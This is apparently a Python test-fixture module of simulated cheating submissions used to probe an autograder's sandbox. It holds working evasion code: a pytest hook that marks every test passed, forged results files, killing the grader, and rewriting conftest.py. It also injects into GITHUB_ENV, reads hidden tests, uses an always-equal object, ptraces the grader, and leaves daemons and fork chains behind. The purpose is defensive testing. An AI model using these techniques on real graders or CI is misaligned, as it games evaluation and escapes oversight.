"""Attack payloads: what a dishonest student might hand in, one lab each (no points, data only).

Each payload is a synthetic lab's student files. A payload's ``area`` returns the right answer
only when its attack *worked* (a write, a signal, a trace succeeded), so a hole shows up as
points; a defended attack scores 0. ``{ROOT}``-style fields are filled in by the test.
"""

from __future__ import annotations

FLIP_HOOK = '''
import gc
import pytest

class _Flip:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        out = yield
        report = out.get_result()
        report.outcome, report.longrepr = "passed", None

HOOKED = False
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
        _obj.pluginmanager.register(_Flip(), "flip")
        HOOKED = True
        break
'''

TODO = '''
def area(w, h):
    """Returns w * h."""
    raise NotImplementedError("TODO(lab9.1): area")
'''


def _if(condition_code: str) -> str:
    """A starter whose area is right only when ``condition_code`` (sets OK) ran without error."""
    body = "\n    ".join(condition_code.strip().splitlines())
    return f'''import os, signal, sys, time

def area(w, h):
    """Returns w * h."""
    OK = False
    try:
    {body}
    except Exception as exc:
        raise NotImplementedError(f"TODO(lab9.1): attack blocked: {{exc!r}}")
    if OK:
        return w * h
    raise NotImplementedError("TODO(lab9.1): attack had no effect")
'''.replace("\n    " + body, "\n        " + "\n        ".join(condition_code.strip().splitlines()))


def _daemon(body: str) -> str:
    """A starter that leaves a daemon behind (double fork, new session) running ``body``; the
    call itself scores nothing."""
    inner = "\n".join(" " * 16 + line for line in body.strip().splitlines())
    return _if(f"""
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            try:
{inner}
            finally:
                os._exit(0)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
OK = False
""")


PAYLOADS: dict[str, dict[str, str]] = {
    # A pytest hook registered from student code that turns every report into "passed".
    "hook": {"starter.py": FLIP_HOOK + _if("OK = HOOKED")},
    # Reach the grading log's writer (or its key) and sign "passed" records.
    "sign": {"starter.py": _if('''
import gc
found = [o for o in gc.get_objects() if type(o).__name__ in ("LogWriter", "HMAC")]
OK = bool(found)
''')},
    # A student-owned *_test.py with the hook: never collected (only test_*.py is).
    "star_test": {"starter.py": TODO, "evil_test.py": FLIP_HOOK},
    # Write a full-score results file, then kill the grader.
    "results_kill": {"starter.py": _if('''
import json
for path in ("{RESULTS}", "results.json", "out-results.json"):
    with open(path, "w") as fh:
        json.dump({"score": 999, "tests": []}, fh)
os.kill(os.getppid(), signal.SIGKILL)
OK = True
''')},
    # Rewrite a trusted file (the root conftest.py) mid-run.
    "rewrite_conftest": {"starter.py": _if('''
with open("conftest.py", "a") as fh:
    fh.write("\\n")
OK = True
''')},
    # Edit the shared bundle so the next submission is graded with the change.
    "bundle_edit": {"starter.py": _if('''
with open("{BUNDLE}/conftest.py", "a") as fh:
    fh.write("\\n# next one passes\\n")
OK = True
''')},
    # Append to $GITHUB_ENV to steer later workflow steps.
    "github_env": {"starter.py": _if('''
with open("{GITHUB_ENV}", "a") as fh:
    fh.write("PYTEST_PLUGINS=evil\\n")
OK = True
''')},
    # Read the hidden tests and echo them through a visible failure.
    "hidden_read": {"starter.py": '''import glob

def area(w, h):
    """Returns w * h."""
    text = "".join(open(p).read() for p in glob.glob("hidden/**/*.py", recursive=True)
                   + glob.glob("solutions/**/hidden/*.py", recursive=True))
    raise AssertionError("TODO(lab9.1): " + (text or "nothing readable"))
'''},
    # An object equal to everything.
    "always_equal": {"starter.py": '''
class _Any(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__

class _Obj:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__

def area(w, h):
    """Returns w * h."""
    return _Obj() if w < 3 else _Any(0)
'''},
    # /proc/<grader>/mem of the trusted process.
    "proc_mem": {"starter.py": _if('''
open(f"/proc/{os.getppid()}/mem", "r+b").close()
OK = True
''')},
    # ptrace(PTRACE_ATTACH) the trusted process.
    "ptrace": {"starter.py": _if('''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ppid = os.getppid()
if ppid == 0:  # NOTE: a PID namespace's first process: its parent, named as /proc names it
    ppid = int(open("/proc/self/stat").read().rpartition(")")[2].split()[1])
if ppid == 0:  # a /proc of its own namespace: the parent cannot be named at all
    raise PermissionError("the parent is outside this PID namespace and its /proc")
OK = libc.ptrace(16, ppid, None, None) == 0
''')},
    # Signal the trusted process (signal 0: only asks whether it would be allowed).
    "signal": {"starter.py": _if('''
ppid = os.getppid()
if ppid == 0:  # NOTE: a PID namespace's first process: its parent, named as /proc names it
    ppid = int(open("/proc/self/stat").read().rpartition(")")[2].split()[1])
if ppid == 0:  # a /proc of its own namespace: the parent cannot be named at all
    raise PermissionError("the parent is outside this PID namespace and its /proc")
os.kill(ppid, 0)
OK = True
''')},
    # A sitecustomize.py and a .pth in the submission.
    "startup_files": {"starter.py": TODO, "sitecustomize.py": FLIP_HOOK,
                      "evil.pth": "import sys; sys.stderr.write('pth ran')\n"},
    # Endless output.
    "flood": {"starter.py": _if('''
while True:
    sys.stdout.write("x" * 65536)
    sys.stderr.write("y" * 65536)
''')},
    # Tamper from a child process a test starts (reference.child): the trusted tree's helper.
    "child_tamper": {"starter.py": _if('''
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "_check.py"), "a") as fh:
    fh.write("\\n")
OK = True
''')},
    # A daemon (double fork, new session) left running after the grading: it could kill or
    # watch the next submission's worker on the same machine (a red team, 2026-11-30). It
    # writes its worker's home (which holds the compiled kernels) to {PIDFILE}, then a
    # heartbeat line every 0.2 s; the local test checks that the home is gone and the beats
    # stop. NOTE: beats, not a pid: in a PID namespace with its own /proc a process cannot
    # learn the pid the grader's /proc gives it.
    "daemon": {"starter.py": _daemon('''
with open("{PIDFILE}", "a") as fh:
    fh.write(f"home {os.environ['HOME']}\\n")
end = time.time() + 300
while time.time() < end:
    with open("{PIDFILE}", "a") as fh:
        fh.write("beat daemon\\n")
    time.sleep(0.2)
''')},
    # The same daemon hidden as a zombie: its first thread exits (SYS_exit ends one thread)
    # while another beats on, so /proc/<pid>/stat says "Z" (the red team's second round).
    "daemon_thread": {"starter.py": _daemon('''
import ctypes, threading
def beat():
    end = time.time() + 300
    while time.time() < end:
        with open("{PIDFILE}", "a") as fh:
            fh.write("beat daemon_thread\\n")
        time.sleep(0.2)
threading.Thread(target=beat).start()
ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)
''')},
    # A chain: each member appends a heartbeat, forks and exits, faster than /proc can be
    # scanned (a red team's third round outran the orphan sweep so and zeroed a later Lab 3).
    # NOTE: {PIDFILE} gets "chain <pid>" lines; the local test checks they stop. It ends on
    # its own after 120 s, so a grader that fails to kill it does not fork for ever.
    "fork_chain": {"starter.py": _daemon('''
end = time.time() + 120
while time.time() < end:
    with open("{PIDFILE}", "a") as fh:
        fh.write(f"chain {os.getpid()}\\n")
    time.sleep(0.01)
    if os.fork() != 0:
        os._exit(0)
''')},
    # The worker turns itself into a program that never exits, after leaving a daemon that
    # beats: a red team's fourth round (2026-11-30) made process 1 of the worker's PID
    # namespace exec setuid `passwd` (which clears the parent-death signal that ends the
    # namespace, and showed root as /proc's owner, hiding it from the orphan sweep) reading a
    # pipe its daemon held. The same here (`cat` where there is no passwd).
    "pid1_exec": {"starter.py": _if('''
r, w = os.pipe()
if os.fork() == 0:
    try:
        os.setsid()
        os.close(r)
        end = time.time() + 120
        while time.time() < end:
            with open("{PIDFILE}", "a") as fh:
                fh.write("beat pid1_exec\\n")
            time.sleep(0.2)
    finally:
        os._exit(0)
try:
    os.setsid()
except OSError:
    pass
os.dup2(r, 0)
os.close(w)
import shutil
if os.path.exists("/usr/bin/passwd"):
    os.execv("/usr/bin/passwd", ["passwd"])
os.execv(shutil.which("cat") or "/bin/cat", ["cat"])
''')},
    # Fork: a child outliving the call tries to tamper later.
    "fork": {"starter.py": _if('''
if os.fork() == 0:
    time.sleep(0.5)
    try:
        open("conftest.py", "a").write("\\n")
    finally:
        os._exit(0)
OK = False
''')},
}
